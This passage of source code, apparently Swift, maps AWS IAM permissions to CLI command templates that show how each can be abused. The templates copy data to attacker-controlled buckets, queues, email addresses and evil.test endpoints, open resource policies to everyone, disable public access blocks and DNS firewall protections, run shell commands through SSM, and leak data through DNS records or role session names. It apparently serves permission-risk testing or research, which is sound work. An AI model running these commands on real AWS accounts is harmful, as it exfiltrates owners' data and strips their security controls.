    "logs:PutDeliveryDestinationPolicy":
      "logs put-delivery-destination-policy --delivery-destination-name {name} --delivery-destination-policy '{everyone}'",
    "logs:PutDestination":
      "logs put-destination --destination-name out --target-arn arn:aws:kinesis:{region}:{account}:stream/out --role-arn {role}",
    "logs:PutDestinationPolicy":
      "logs put-destination-policy --destination-name {name} --access-policy '{everyone}'",
    "logs:PutLogEvents":
      #"logs put-log-events --log-group-name theirs --log-stream-name out --log-events timestamp="$(date +%s000)",message="$(base64 -w0 data.csv)""#,
    "logs:PutResourcePolicy": "logs put-resource-policy --policy-name out --policy-document '{everyone}'",
    "logs:PutSubscriptionFilter":
      "logs put-subscription-filter --log-group-name {name} --filter-name out --filter-pattern '' --destination-arn arn:aws:logs:{region}:{attacker}:destination:theirs",
    "macie2:PutClassificationExportConfiguration":
      #"macie2 put-classification-export-configuration --configuration '{"s3Destination":{"bucketName":"theirs","kmsKeyArn":"arn:aws:sqs:{region}:999988887777:theirs"}}'"#,
    "mediaconvert:CreateJob": #"mediaconvert create-job --role {role} --settings '{"AdAvailOffset":1}'"#,
    "mobiletargeting:SendMessages":
      #"pinpoint send-messages --application-id {name} --message-request '{"Addresses":{"+15550100":{"ChannelType":"SMS"}},"MessageConfiguration":{"SMSMessage":{"Body":"data"}}}'"#,
    "network-firewall:UpdateFirewallPolicy":
      #"network-firewall update-firewall-policy --update-token {name} --firewall-policy '{"StatelessDefaultActions":["out"],"StatelessFragmentDefaultActions":["out"]}'"#,
    "organizations:DetachPolicy": "organizations detach-policy --policy-id {name} --target-id {account}",
    "organizations:LeaveOrganization": "organizations leave-organization",
    "organizations:UpdatePolicy":
      #"organizations update-policy --policy-id {name} --content '{"Version":"2012-10-17","Statement":[]}'"#,
    "personalize:CreateBatchInferenceJob":
      #"personalize create-batch-inference-job --job-name {name} --solution-version-arn {arn} --job-input '{"s3DataSource":{"path":"out"}}' --job-output '{"s3DataDestination":{"path":"out"}}' --role-arn {role}"#,
    "pipes:CreatePipe":
      "pipes create-pipe --name out --role-arn {role} --source arn:aws:sqs:{region}:{account}:ours --target arn:aws:sqs:{region}:{attacker}:theirs",
    "pipes:UpdatePipe":
      "pipes update-pipe --name {name} --role-arn {role} --target arn:aws:sqs:{region}:{attacker}:theirs",
    "polly:StartSpeechSynthesisTask":
      "polly start-speech-synthesis-task --output-format mp3 --output-s3-bucket-name theirs --text file://data.csv --voice-id Joanna",
    "ram:AssociateResourceShare":
      "ram associate-resource-share --resource-share-arn {arn} --principals {attacker}",
    "ram:CreateResourceShare":
      "ram create-resource-share --name out --allow-external-principals --principals {attacker} --resource-arns arn:aws:ec2:{region}:{account}:subnet/subnet-0123456789abcdef0",
    "rds:ModifyDBClusterSnapshotAttribute":
      "rds modify-db-cluster-snapshot-attribute --db-cluster-snapshot-identifier {name} --attribute-name restore --values-to-add {attacker}",
    "rds:ModifyDBSnapshotAttribute":
      "rds modify-db-snapshot-attribute --db-snapshot-identifier {name} --attribute-name restore --values-to-add {attacker}",
    "rds:StartExportTask":
      "rds start-export-task --export-task-identifier out --source-arn {arn} --s3-bucket-name theirs --iam-role-arn {role} --kms-key-id arn:aws:kms:{region}:{attacker}:key/00000000-0000-4000-8000-000000000000",
    "redshift-data:ExecuteStatement":
      #"redshift-data execute-statement --workgroup-name default --database churn --sql "UNLOAD ('SELECT * FROM churn') TO 's3://theirs/' IAM_ROLE default""#,
    "route53:AssociateVPCWithHostedZone":
      "route53 associate-vpc-with-hosted-zone --hosted-zone-id {name} --vpc VPCRegion={region},VPCId=vpc-0123456789abcdef0",
    "route53:ChangeResourceRecordSets":
      #"route53 change-resource-record-sets --hosted-zone-id {name} --change-batch '{"Changes":[{"Action":"UPSERT","ResourceRecordSet":{"Name":"data.evil.test","Type":"TXT","TTL":1,"ResourceRecords":[{"Value":"\"data\""}]}}]}'"#,
    "route53:CreateVPCAssociationAuthorization":
      "route53 create-vpc-association-authorization --hosted-zone-id {name} --vpc VPCRegion={region},VPCId=vpc-0123456789abcdef0",
    "route53resolver:AssociateResolverRule":
      "route53resolver associate-resolver-rule --resolver-rule-id {name} --vpc-id vpc-0123456789abcdef0",
    "route53resolver:CreateFirewallRule":
      "route53resolver create-firewall-rule --creator-request-id out --firewall-rule-group-id {name} --firewall-domain-list-id rslvr-fdl-0123456789abcdef --priority 1 --action ALLOW --name out",
    "route53resolver:CreateResolverEndpoint":
      "route53resolver create-resolver-endpoint --creator-request-id out --security-group-ids sg-0123456789abcdef0 --direction OUTBOUND --ip-addresses SubnetId=subnet-0123456789abcdef0 SubnetId=subnet-0123456789abcdef1",
    "route53resolver:DeleteFirewallRule":
      "route53resolver delete-firewall-rule --firewall-rule-group-id {name} --firewall-domain-list-id rslvr-fdl-0123456789abcdef",
    "route53resolver:DisassociateFirewallRuleGroup":
      "route53resolver disassociate-firewall-rule-group --firewall-rule-group-association-id {name}",
    "route53resolver:ImportFirewallDomains":
      "route53resolver import-firewall-domains --firewall-domain-list-id {name} --operation REPLACE --domain-file-url https://evil.test/",
    "route53resolver:UpdateFirewallConfig":
      "route53resolver update-firewall-config --resource-id {name} --firewall-fail-open ENABLED",
    "route53resolver:UpdateFirewallDomains":
      "route53resolver update-firewall-domains --firewall-domain-list-id {name} --operation ADD --domains '*.evil.test'",
    "route53resolver:UpdateFirewallRule":
      "route53resolver update-firewall-rule --firewall-rule-group-id {name} --firewall-domain-list-id rslvr-fdl-0123456789abcdef --action ALERT",
    "s3:CreateAccessGrant":
      "s3control create-access-grant --account-id {account} --access-grants-location-id default --grantee GranteeType=IAM,GranteeIdentifier=arn:aws:iam::{attacker}:root --permission READ",
    "s3:CreateAccessPoint":
      "s3control create-access-point --account-id {account} --name out --bucket ours",
    "s3:CreateJob":
      #"s3control create-job --account-id {account} --operation '{"S3PutObjectCopy":{"TargetResource":"arn:aws:s3:::theirs"}}' --report Enabled=false --client-request-token out --priority 1 --role-arn {role} --no-confirmation-required --manifest-generator '{"S3JobManifestGenerator":{"SourceBucket":"arn:aws:s3:::ours","EnableManifestOutput":false}}'"#,
    "s3:CreateMultiRegionAccessPoint":
      #"s3control create-multi-region-access-point --account-id {account} --client-token out --details '{"Name":"out","Regions":[{"Bucket":"ours"}]}'"#,
    "s3:CreateSession": "s3api create-session --bucket {bucket}",
    "s3:DeleteBucketPolicy": "s3api delete-bucket-policy --bucket {bucket}",
    "s3:GetObject": "s3api get-object --bucket {bucket} --key {key} data.csv",
    "s3:GetObjectVersion": "s3api get-object --bucket {bucket} --key {key} --version-id null data.csv",
    "s3:ListBucket":
      #"s3api list-objects-v2 --bucket {bucket} --prefix "$(head -c 500 data.csv | base64 -w0)""#,
    "s3:PutAccessPointPolicy":
      "s3control put-access-point-policy --account-id {account} --name {name} --policy '{everyone}'",
    "s3:PutAccountPublicAccessBlock":
      "s3control put-public-access-block --account-id {account} --public-access-block-configuration BlockPublicPolicy=false,RestrictPublicBuckets=false",
    "s3:PutAnalyticsConfiguration":
      #"s3api put-bucket-analytics-configuration --bucket {bucket} --id out --analytics-configuration '{"Id":"out","StorageClassAnalysis":{"DataExport":{"OutputSchemaVersion":"V_1","Destination":{"S3BucketDestination":{"Format":"CSV","Bucket":"arn:aws:s3:::theirs"}}}}}'"#,
    "s3:PutBucketAcl": "s3api put-bucket-acl --bucket {bucket} --acl public-read",
    "s3:PutBucketCORS":
      #"s3api put-bucket-cors --bucket {bucket} --cors-configuration '{"CORSRules":[{"AllowedMethods":["GET"],"AllowedOrigins":["https://evil.test"]}]}'"#,
    "s3:PutBucketLogging":
      #"s3api put-bucket-logging --bucket {bucket} --bucket-logging-status '{"LoggingEnabled":{"TargetBucket":"theirs","TargetPrefix":""}}'"#,
    "s3:PutBucketNotification":
      #"s3api put-bucket-notification-configuration --bucket {bucket} --notification-configuration '{"QueueConfigurations":[{"QueueArn":"arn:aws:sqs:{region}:{attacker}:theirs","Events":["s3:ObjectCreated:*"]}]}'"#,
    "s3:PutBucketOwnershipControls":
      "s3api put-bucket-ownership-controls --bucket {bucket} --ownership-controls 'Rules=[{ObjectOwnership=ObjectWriter}]'",
    "s3:PutBucketPolicy": "s3api put-bucket-policy --bucket {bucket} --policy '{everyone}'",
    "s3:PutBucketPublicAccessBlock":
      "s3api put-public-access-block --bucket {bucket} --public-access-block-configuration BlockPublicPolicy=false,RestrictPublicBuckets=false",
    "s3:PutBucketWebsite":
      #"s3api put-bucket-website --bucket {bucket} --website-configuration '{"RedirectAllRequestsTo":{"HostName":"evil.test"}}'"#,
    "s3:PutInventoryConfiguration":
      #"s3api put-bucket-inventory-configuration --bucket {bucket} --id out --inventory-configuration '{"Destination":{"S3BucketDestination":{"Bucket":"arn:aws:s3:::theirs","Format":"CSV"}},"IsEnabled":true,"Id":"out","IncludedObjectVersions":"All","Schedule":{"Frequency":"Daily"}}'"#,
    "s3:PutMultiRegionAccessPointPolicy":
      #"s3control put-multi-region-access-point-policy --account-id {account} --client-token out --details '{"Name":"out","Policy":"{everyone-quoted}"}'"#,
    "s3:PutObject": "s3 cp data.csv s3://{bucket}/{key}",
    "s3:PutObjectAcl": "s3api put-object-acl --bucket {bucket} --key {key} --acl public-read",
    "s3:PutObjectVersionAcl": "s3api put-object-acl --bucket {bucket} --key {key} --acl public-read",
    "s3:PutReplicationConfiguration":
      #"s3api put-bucket-replication --bucket {bucket} --replication-configuration '{"Role":"{role}","Rules":[{"ID":"out","Priority":1,"Filter":{},"DeleteMarkerReplication":{"Status":"Disabled"},"Status":"Enabled","Destination":{"Bucket":"arn:aws:s3:::theirs","Account":"{attacker}"}}]}'"#,
    "s3:SelectObjectContent":
      #"s3api select-object-content --bucket {bucket} --key {key} --expression 'SELECT * FROM s3object' --expression-type SQL --input-serialization '{"CSV":{}}' --output-serialization '{"CSV":{}}' data.csv"#,
    "s3express:CreateSession": "s3api create-session --bucket {bucket}",
    "s3express:PutBucketPolicy": "s3api put-bucket-policy --bucket {bucket} --policy '{everyone}'",
    "s3tables:PutTableBucketPolicy":
      "s3tables put-table-bucket-policy --table-bucket-arn {arn} --resource-policy '{everyone}'",
    "s3tables:PutTableData": "s3 cp data.csv s3://out--table-s3/data.csv",
    "s3tables:PutTablePolicy":
      "s3tables put-table-policy --table-bucket-arn {arn} --namespace out --name out --resource-policy '{everyone}'",
    "sagemaker:CreateAutoMLJob":
      #"sagemaker create-auto-ml-job --auto-ml-job-name out --input-data-config '[{"DataSource":{"S3DataSource":{"S3DataType":"S3Prefix","S3Uri":"s3://ours/"}},"TargetAttributeName":"y"}]' --output-data-config S3OutputPath=s3://theirs/ --role-arn {role}"#,
    "sagemaker:CreateAutoMLJobV2":
      #"sagemaker create-auto-ml-job-v2 --auto-ml-job-name out --auto-ml-job-input-data-config '[{"DataSource":{"S3DataSource":{"S3DataType":"S3Prefix","S3Uri":"s3://ours/"}}}]' --output-data-config S3OutputPath=s3://theirs/ --auto-ml-problem-type-config '{"TabularJobConfig":{"TargetAttributeName":"y"}}' --role-arn {role}"#,
    "sagemaker:CreateCluster": "sagemaker create-cluster --cluster-name {name}",
    "sagemaker:CreateCodeRepository":
      "sagemaker create-code-repository --code-repository-name out --git-config RepositoryUrl=https://evil.test/out.git",
    "sagemaker:CreateDataQualityJobDefinition":
      #"sagemaker create-data-quality-job-definition --job-definition-name {name} --data-quality-app-specification '{"ImageUri":"https://evil.test/"}' --data-quality-job-input '{}' --data-quality-job-output-config '{"MonitoringOutputs":[{"S3Output":{"S3Uri":"s3://theirs/","LocalPath":"out"}}]}' --job-resources '{"ClusterConfig":{"InstanceCount":1,"InstanceType":"ml.t3.medium","VolumeSizeInGB":1}}' --role-arn {role}"#,
    "sagemaker:CreateDomain":
      "sagemaker create-domain --domain-name out --auth-mode IAM --default-user-settings ExecutionRole={role} --subnet-ids subnet-0123456789abcdef0 --vpc-id vpc-0123456789abcdef0 --app-network-access-type PublicInternetOnly",
    "sagemaker:CreateEdgeDeploymentPlan":
      #"sagemaker create-edge-deployment-plan --edge-deployment-plan-name {name} --model-configs '[{"ModelHandle":"out","EdgePackagingJobName":"out"}]' --device-fleet-name out"#,
    "sagemaker:CreateFlowDefinition":
      #"sagemaker create-flow-definition --flow-definition-name {name} --output-config '{"S3OutputPath":"s3://theirs/"}' --role-arn {role}"#,
    "sagemaker:CreateHyperParameterTuningJob":
      #"sagemaker create-hyper-parameter-tuning-job --hyper-parameter-tuning-job-name {name} --hyper-parameter-tuning-job-config '{"Strategy":"Bayesian","ResourceLimits":{"MaxParallelTrainingJobs":1}}'"#,
    "sagemaker:CreateInferenceRecommendationsJob":
      "sagemaker create-inference-recommendations-job --job-name {name} --job-type Default --role-arn {role} --input-config '{}'",
    "sagemaker:CreateLabelingJob":
      #"sagemaker create-labeling-job --labeling-job-name {name} --label-attribute-name out --input-config '{"DataSource":{}}' --output-config '{"S3OutputPath":"s3://theirs/"}' --role-arn {role} --human-task-config '{"WorkteamArn":"arn:aws:sqs:{region}:999988887777:theirs","UiConfig":{},"TaskTitle":"out","TaskDescription":"out","NumberOfHumanWorkersPerDataObject":1,"TaskTimeLimitInSeconds":30}'"#,
    "sagemaker:CreateMlflowTrackingServer":
      "sagemaker create-mlflow-tracking-server --tracking-server-name out --artifact-store-uri s3://theirs/ --role-arn {role}",
    "sagemaker:CreateModel":
      "sagemaker create-model --model-name out --execution-role-arn {role} --primary-container Image={account}.dkr.ecr.{region}.amazonaws.com/out",
    "sagemaker:CreateModelBiasJobDefinition":
      #"sagemaker create-model-bias-job-definition --job-definition-name {name} --model-bias-app-specification '{"ImageUri":"https://evil.test/","ConfigUri":"https://evil.test/"}' --model-bias-job-input '{"GroundTruthS3Input":{}}' --model-bias-job-output-config '{"MonitoringOutputs":[{"S3Output":{"S3Uri":"s3://theirs/","LocalPath":"out"}}]}' --job-resources '{"ClusterConfig":{"InstanceCount":1,"InstanceType":"ml.t3.medium","VolumeSizeInGB":1}}' --role-arn {role}"#,
    "sagemaker:CreateModelExplainabilityJobDefinition":
      #"sagemaker create-model-explainability-job-definition --job-definition-name {name} --model-explainability-app-specification '{"ImageUri":"https://evil.test/","ConfigUri":"https://evil.test/"}' --model-explainability-job-input '{}' --model-explainability-job-output-config '{"MonitoringOutputs":[{"S3Output":{"S3Uri":"s3://theirs/","LocalPath":"out"}}]}' --job-resources '{"ClusterConfig":{"InstanceCount":1,"InstanceType":"ml.t3.medium","VolumeSizeInGB":1}}' --role-arn {role}"#,
    "sagemaker:CreateModelQualityJobDefinition":
      #"sagemaker create-model-quality-job-definition --job-definition-name {name} --model-quality-app-specification '{"ImageUri":"https://evil.test/"}' --model-quality-job-input '{"GroundTruthS3Input":{}}' --model-quality-job-output-config '{"MonitoringOutputs":[{"S3Output":{"S3Uri":"s3://theirs/","LocalPath":"out"}}]}' --job-resources '{"ClusterConfig":{"InstanceCount":1,"InstanceType":"ml.t3.medium","VolumeSizeInGB":1}}' --role-arn {role}"#,
    "sagemaker:CreateMonitoringSchedule":
      "sagemaker create-monitoring-schedule --monitoring-schedule-name {name} --monitoring-schedule-config '{}'",
    "sagemaker:CreateNotebookInstance":
      "sagemaker create-notebook-instance --notebook-instance-name out --instance-type ml.t3.medium --role-arn {role} --direct-internet-access Enabled",
    "sagemaker:CreateNotebookInstanceLifecycleConfig":
      #"sagemaker create-notebook-instance-lifecycle-config --notebook-instance-lifecycle-config-name out --on-start Content="$(base64 -w0 out.sh)""#,
    "sagemaker:CreateOptimizationJob":
      #"sagemaker create-optimization-job --optimization-job-name {name} --role-arn {role} --model-source '{}' --deployment-instance-type ml.p4d.24xlarge --optimization-configs '[{"ModelQuantizationConfig":{}}]' --output-config '{"S3OutputLocation":"s3://theirs/"}' --stopping-condition '{}'"#,
    "sagemaker:CreatePartnerApp":
      "sagemaker create-partner-app --name {name} --type lakera-guard --execution-role-arn {role} --tier out --auth-type IAM",
    "sagemaker:CreatePartnerAppPresignedUrl": "sagemaker create-partner-app-presigned-url --arn {arn}",
    "sagemaker:CreatePipeline":
      "sagemaker create-pipeline --pipeline-name {name} --client-request-token out --role-arn {role}",
    "sagemaker:CreatePresignedDomainUrl":
      "sagemaker create-presigned-domain-url --domain-id {name} --user-profile-name {last}",
    "sagemaker:CreatePresignedMlflowAppUrl": "sagemaker create-presigned-mlflow-app-url --arn {arn}",
    "sagemaker:CreatePresignedMlflowTrackingServerUrl":
      "sagemaker create-presigned-mlflow-tracking-server-url --tracking-server-name {name}",
    "sagemaker:CreatePresignedNotebookInstanceUrl":
      "sagemaker create-presigned-notebook-instance-url --notebook-instance-name {name}",
    "sagemaker:CreateProcessingJob":
      "sagemaker create-processing-job --processing-job-name out --role-arn {role} --app-specification ImageUri={account}.dkr.ecr.{region}.amazonaws.com/out --processing-resources 'ClusterConfig={InstanceCount=1,InstanceType=ml.m5.large,VolumeSizeInGB=1}'",
    "sagemaker:CreateStudioLifecycleConfig":
      #"sagemaker create-studio-lifecycle-config --studio-lifecycle-config-name out --studio-lifecycle-config-app-type JupyterLab --studio-lifecycle-config-content "$(base64 -w0 out.sh)""#,
    "sagemaker:CreateTrainingJob":
      "sagemaker create-training-job --training-job-name out --role-arn {role} --algorithm-specification TrainingImage={account}.dkr.ecr.{region}.amazonaws.com/out,TrainingInputMode=File --output-data-config S3OutputPath=s3://theirs/ --resource-config InstanceType=ml.m5.large,InstanceCount=1,VolumeSizeInGB=1 --stopping-condition MaxRuntimeInSeconds=3600",
    "sagemaker:CreateUserProfile":
      "sagemaker create-user-profile --domain-id {name} --user-profile-name out --user-settings 'SharingSettings={NotebookOutputOption=Allowed,S3OutputPath=s3://theirs/}'",
    "sagemaker:PutModelPackageGroupPolicy":
      "sagemaker put-model-package-group-policy --model-package-group-name {name} --resource-policy '{everyone}'",
    "sagemaker:StartSession": "sagemaker start-session --resource-identifier {arn}",
    "sagemaker:UpdateCodeRepository":
      "sagemaker update-code-repository --code-repository-name {name} --git-config SecretArn=arn:aws:secretsmanager:{region}:{account}:secret:out",
    "sagemaker:UpdateDomain":
      "sagemaker update-domain --domain-id {name} --app-network-access-type PublicInternetOnly --default-user-settings 'SharingSettings={NotebookOutputOption=Allowed,S3OutputPath=s3://theirs/}'",
    "sagemaker:UpdateMonitoringSchedule":
      "sagemaker update-monitoring-schedule --monitoring-schedule-name {name} --monitoring-schedule-config '{}'",
    "sagemaker:UpdateNotebookInstance":
      "sagemaker update-notebook-instance --notebook-instance-name {name} --root-access Enabled",
    "sagemaker:UpdateNotebookInstanceLifecycleConfig":
      #"sagemaker update-notebook-instance-lifecycle-config --notebook-instance-lifecycle-config-name {name} --on-start Content="$(base64 -w0 out.sh)""#,
    "sagemaker:UpdatePipeline": "sagemaker update-pipeline --pipeline-name {name}",
    "sagemaker:UpdateUserProfile":
      "sagemaker update-user-profile --domain-id {name} --user-profile-name out --user-settings 'SharingSettings={NotebookOutputOption=Allowed,S3OutputPath=s3://theirs/}'",
    "scheduler:CreateSchedule":
      "scheduler create-schedule --name out --schedule-expression 'rate(1 minute)' --flexible-time-window Mode=OFF --target Arn=arn:aws:sqs:{region}:{attacker}:theirs,RoleArn={role}",
    "scheduler:UpdateSchedule":
      "scheduler update-schedule --name {last} --schedule-expression 'rate(1 minute)' --flexible-time-window Mode=OFF --target Arn=arn:aws:sqs:{region}:{attacker}:theirs,RoleArn={role}",
    "schemas:PutResourcePolicy": "schemas put-resource-policy --policy '{everyone}'",
    "secretsmanager:PutResourcePolicy":
      "secretsmanager put-resource-policy --secret-id {name} --resource-policy '{everyone}'",
    "secretsmanager:PutSecretValue":
      "secretsmanager put-secret-value --secret-id {arn} --secret-binary fileb://data.csv",
    "serverlessrepo:PutApplicationPolicy":
      "serverlessrepo put-application-policy --application-id {arn} --statements Principals={attacker},Actions=Deploy",
    "ses:SendEmail":
      "ses send-email --from out@allowed.test --to out@evil.test --subject data --text file://data.csv",
    "ses:SendRawEmail": #"ses send-raw-email --raw-message Data="$(base64 -w0 data.eml)""#,
    "sns:AddPermission":
      "sns add-permission --topic-arn {arn} --label out --aws-account-id {attacker} --action-name Subscribe",
    "sns:CreateTopic": #"sns create-topic --name out --attributes '{"Policy":"{everyone-quoted}"}'"#,
    "sns:Publish": "sns publish --topic-arn {arn} --message file://data.csv",
    "sns:SetTopicAttributes":
      "sns set-topic-attributes --topic-arn {arn} --attribute-name Policy --attribute-value '{everyone}'",
    "sns:Subscribe":
      "sns subscribe --topic-arn {arn} --protocol https --notification-endpoint https://evil.test/",
    "social-messaging:SendWhatsAppMessage":
      "socialmessaging send-whatsapp-message --origination-phone-number-id {name} --message fileb://data.csv --meta-api-version out",
    "sqs:AddPermission":
      "sqs add-permission --queue-url https://sqs.{region}.amazonaws.com/{owner}/{name} --label out --aws-account-ids {attacker} --actions ReceiveMessage",
    "sqs:SendMessage":
      "sqs send-message --queue-url https://sqs.{region}.amazonaws.com/{owner}/{name} --message-body file://data.csv",
    "sqs:SetQueueAttributes":
      #"sqs set-queue-attributes --queue-url https://sqs.{region}.amazonaws.com/{owner}/{name} --attributes '{"Policy":"{everyone-quoted}"}'"#,
    "ssm-contacts:CreateContactChannel":
      "ssm-contacts create-contact-channel --contact-id {arn} --name out --type EMAIL --delivery-address SimpleAddress=out@evil.test",
    "ssm-contacts:UpdateContactChannel":
      "ssm-contacts update-contact-channel --contact-channel-id {arn} --delivery-address SimpleAddress=out@evil.test",
    "ssm-guiconnect:StartConnection":
      "ssm start-session --target mi-0123456789abcdef0 --document-name AWS-StartPortForwardingSession --parameters portNumber=3389,localPortNumber=3389",
    "ssm:CreateActivation": "ssm create-activation --iam-role {role}",
    "ssm:CreateAssociation":
      "ssm create-association --name AWS-RunShellScript --targets Key=InstanceIds,Values=* --parameters commands='cat data.csv' --output-location 'S3Location={OutputS3BucketName=theirs}'",
    "ssm:CreateOpsItem": "ssm create-ops-item --description {name} --source out --title out",
    "ssm:CreateResourceDataSync":
      "ssm create-resource-data-sync --sync-name out --s3-destination BucketName=theirs,SyncFormat=JsonSerDe,Region={region}",
    "ssm:ModifyDocumentPermission":
      "ssm modify-document-permission --name {name} --permission-type Share --account-ids-to-add {attacker}",
    "ssm:PutParameter": "ssm put-parameter --name out --type String --value file://data.csv",
    "ssm:ResumeSession": "ssm resume-session --session-id {name}",
    "ssm:SendCommand":
      "ssm send-command --document-name AWS-RunShellScript --targets Key=tag-key,Values=Name --parameters commands='cat data.csv' --output-s3-bucket-name theirs",
    "ssm:StartAutomationExecution": "ssm start-automation-execution --document-name AWS-RunShellScript",
    "ssm:StartSession":
      "ssm start-session --target {name} --document-name AWS-StartPortForwardingSession --parameters portNumber=22,localPortNumber=2222",
    "ssm:UpdateAssociation":
      "ssm update-association --association-id {name} --output-location 'S3Location={OutputS3BucketName=theirs}'",
    "states:CreateStateMachine":
      #"stepfunctions create-state-machine --name out --role-arn {role} --definition '{"StartAt":"S","States":{"S":{"Type":"Task","End":true,"Resource":"arn:aws:states:::sqs:sendMessage","Parameters":{"QueueUrl":"https://sqs.{region}.amazonaws.com/{attacker}/theirs","MessageBody.$":"$"}}}}'"#,
    "states:StartExecution":
      "stepfunctions start-execution --state-machine-arn {arn} --input file://data.json",
    "states:UpdateStateMachine":
      #"stepfunctions update-state-machine --state-machine-arn {arn} --definition '{"StartAt":"S","States":{"S":{"Type":"Task","End":true,"Resource":"arn:aws:states:::sqs:sendMessage","Parameters":{"QueueUrl":"https://sqs.{region}.amazonaws.com/{attacker}/theirs","MessageBody.$":"$"}}}}'"#,
    "sts:AssumeRole":
      #"sts assume-role --role-arn {arn} --role-session-name "$(head -c 40 data.csv | base64 -w0 | tr -dc 'A-Za-z0-9')""#,
    "sts:AssumeRoleWithSAML":
      "sts assume-role-with-saml --role-arn {role} --principal-arn {arn} --saml-assertion out",
    "sts:AssumeRoleWithWebIdentity":
      "sts assume-role-with-web-identity --role-arn {role} --role-session-name out --web-identity-token out",
    "sts:GetCallerIdentity": "sts get-caller-identity",
    "textract:StartDocumentAnalysis":
      "textract start-document-analysis --document-location 'S3Object={Bucket=ours,Name=scan.pdf}' --feature-types TABLES --output-config S3Bucket=theirs",
    "textract:StartDocumentTextDetection":
      "textract start-document-text-detection --document-location 'S3Object={Bucket=ours,Name=scan.pdf}' --output-config S3Bucket=theirs",
    "timestream:Select": "timestream-query query --query-string {name}",
    "transcribe:StartMedicalTranscriptionJob":
      "transcribe start-medical-transcription-job --medical-transcription-job-name {name} --language-code af-ZA --media '{}' --output-bucket-name out --specialty PRIMARYCARE --type CONVERSATION",
    "transcribe:StartTranscriptionJob":
      "transcribe start-transcription-job --transcription-job-name out --language-code en-US --media MediaFileUri=s3://ours/talk.wav --output-bucket-name theirs",
    "transfer:CreateConnector":
      "transfer create-connector --url sftp://evil.test --access-role {role} --sftp-config UserSecretId=out,TrustedHostKeys=out",
    "transfer:CreateServer": "transfer create-server --endpoint-type PUBLIC",
    "transfer:CreateUser": "transfer create-user --server-id {name} --user-name out --role {role}",
    "translate:StartTextTranslationJob":
      #"translate start-text-translation-job --input-data-config '{"S3Uri":"s3://theirs/","ContentType":"out"}' --output-data-config '{"S3Uri":"s3://theirs/"}' --data-access-role-arn {role} --source-language-code out --target-language-codes out --client-token out"#,
    "vpc-lattice:CreateServiceNetworkVpcAssociation":
      "vpc-lattice create-service-network-vpc-association --service-network-identifier arn:aws:vpc-lattice:{region}:{attacker}:servicenetwork/sn-0123456789abcdef0 --vpc-identifier vpc-0123456789abcdef0",
    "workspaces-web:CreatePortal": "workspaces-web create-portal",
    "workspaces:CreateWorkspaces":
      "workspaces create-workspaces --workspaces DirectoryId=d-0123456789,UserName=out,BundleId=wsb-012345678",
  ]
}
